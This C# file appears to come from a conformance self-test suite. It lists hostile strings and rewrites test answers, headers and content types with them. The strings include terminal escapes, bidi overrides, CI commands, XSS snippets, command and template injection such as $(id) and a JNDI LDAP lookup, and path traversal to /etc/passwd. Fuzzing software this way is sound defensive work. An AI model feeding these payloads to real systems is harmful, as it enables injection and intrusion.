namespace Conformance.SelfTests.HostileAnswers.Families;

/// <summary>Texts that mean something to whoever shows them: terminals, browsers, CI systems, readers of Markdown.</summary>
internal static class HostileTexts
{
    private static readonly (string Name, string Text)[] Texts =
    [
        ("terminal escapes", "\e[2J\e[31mPassed!\e[0m\e]0;title\a\e]8;;http://elsewhere.invalid\e\\click\e]8;;\e\\\b\b\u009b2J"),
        ("bidi overrides", "\u202egnp.exe\u202c \u2066isolated\u2069 \u200f\u061c \u200b\ufeff"),
        ("CI commands", "\n::error file=x::Fail\n::add-mask::e\n##vso[task.complete result=Failed;]\n##teamcity[buildStop]\n::stop-commands::x"),
        ("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)><!--</pre></td></table>]]>&lt;b&gt;"),
        ("Markdown", "| a | b |\n|---|---|\n[click](http://elsewhere.invalid) `code` ```\n# Passed\n![x](http://elsewhere.invalid/x.png)"),
        ("line breaks", "one\r\ntwo\r\u2028three\u2029four\u0085five\v\f"),
        ("NUL and friends", "\0\u0001\u001f\u007f\ufffe\uffff"),
        ("formats", "{0} {1:X} %s %n ${env:HOME} $(id) `id` {{7*7}} <%= 7 %> ${jndi:ldap://elsewhere.invalid}"),
        ("paths", "../../../../etc/passwd C:\\x\\y file:///etc/passwd //elsewhere.invalid/x ?a=b#c;d"),
        ("a stack trace", "Elsewhere.Boom: boom\n   at Elsewhere.Program.Main()\n   at Elsewhere.Run()"),
    ];

    public static IReadOnlyList<Rewriting> All { get; } =
    [
        .. Texts.Select(each => new Rewriting($"texts: {each.Name}", turn => turn.Answer.Change((_, _) => each.Text))),
        .. Texts.Select(each => new Rewriting(
            $"texts: {each.Name} in messages", turn => turn.Answer.Change((name, _) => IsMessage(name) ? each.Text : null))),
        .. Texts.Select(each => new Rewriting($"texts: {each.Name} behind all", turn => turn.Answer.Change((_, text) => text + each.Text))),
        .. Texts.Select(each => new Rewriting($"texts: {each.Name} in a header", turn => turn.Answer.Add("X-Text", each.Text))),
        .. Texts.Select(each => new Rewriting(
            $"texts: {each.Name} as content type", turn => turn.Answer.Set("Content-Type", $"application/json; {each.Text}"))),
    ];

    private static bool IsMessage(string name) => name is "error" or "errcode" or "message" or "code" or "versions" or "type";
}
